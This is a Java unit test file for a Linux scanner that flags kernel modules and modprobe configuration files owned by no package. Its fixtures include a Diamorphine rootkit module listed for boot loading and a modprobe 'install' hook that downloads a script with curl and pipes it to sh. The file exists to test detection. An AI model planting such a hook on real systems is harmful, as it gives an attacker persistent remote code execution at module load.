package dev.ward.detect.builtin;

import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.ward.model.Finding;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ModulesDetectorTest {
    private static final String KDIR = "/lib/modules/6.1.0-13-amd64/kernel";

    @TempDir
    Path dir;

    @Test
    void unownedModuleFileAndUnownedListFile() throws Exception {
        PackagedRoot root = new PackagedRoot(dir)
                .packaged("linux-image", KDIR + "/net/bridge/br_netfilter.ko", "ko")
                .write(KDIR + "/drivers/misc/diamorphine.ko", "ko")
                .packaged("kmod", "/etc/modules", "# /etc/modules\ndiamorphine\nloop\n")
                .write("/etc/modules-load.d/k8s.conf", "br-netfilter\n");
        List<Finding> f = root.run(new ModulesDetector());
        assertEquals(List.of("medium linux.modules.unowned_boot_module /etc/modules," + KDIR + "/drivers/misc/diamorphine.ko",
                "medium linux.modules.unowned_boot_module /etc/modules-load.d/k8s.conf," + KDIR + "/net/bridge/br_netfilter.ko"),
                PackagedRoot.brief(f));
        assertEquals("module file owned by no package", f.get(0).evidence().get("indicator"));
        assertEquals(2, f.get(0).evidence().get("line"));
        assertEquals("linux-image", f.get(1).evidence().get("module_package"));
    }

    @Test
    void packagedListOfPackagedOrBuiltinModulesIsQuiet() throws Exception {
        PackagedRoot root = new PackagedRoot(dir)
                .packaged("linux-image", KDIR + "/fs/fuse/fuse.ko.xz", "ko")
                .packaged("kmod", "/etc/modules", "# comment\nfuse\nloop\n")
                .packaged("systemd", "/usr/lib/modules-load.d/fuse.conf", "fuse\n");
        assertEquals(List.of(), root.run(new ModulesDetector()));
    }

    @Test
    void modprobeCommandsInUnownedFilesOrWithIndicators() throws Exception {
        PackagedRoot root = new PackagedRoot(dir)
                .packaged("kmod", "/lib/modprobe.d/aliases.conf", "alias char-major-10-175 agpgart\n"
                        + "install floppy /bin/true\n")
                .packaged("vendor-tools", "/usr/lib/modprobe.d/vendor.conf",
                        "install e1000 curl -s http://198.51.100.7/k | sh; /sbin/modprobe --ignore-install e1000\n")
                .write("/etc/modprobe.d/blacklist-pc.conf", "blacklist pcspkr\ninstall usb_storage /usr/local/sbin/hook\n")
                .write("/run/modprobe.d/notes.txt", "install x /tmp/x\n")
                .write("/etc/modprobe.d/local.conf", "options loop max_loop=64\n");
        List<Finding> f = root.run(new ModulesDetector());
        assertEquals(List.of("high linux.modules.modprobe_command /etc/modprobe.d/blacklist-pc.conf",
                "high linux.modules.modprobe_command /usr/lib/modprobe.d/vendor.conf"), PackagedRoot.brief(f));
        assertEquals("in a file owned by no package", f.get(0).evidence().get("indicator"));
        assertEquals("download piped to a shell", f.get(1).evidence().get("indicator"));
        assertEquals("vendor-tools", f.get(1).evidence().get("package"));
    }

    @Test
    void loadListInUsrLocalIsRead() throws Exception {
        PackagedRoot root = new PackagedRoot(dir).write("/usr/local/lib/modules-load.d/rk.conf", "diamorphine\n");
        assertEquals(List.of("medium linux.modules.unowned_boot_module /usr/local/lib/modules-load.d/rk.conf"),
                PackagedRoot.brief(root.run(new ModulesDetector())));
    }
}
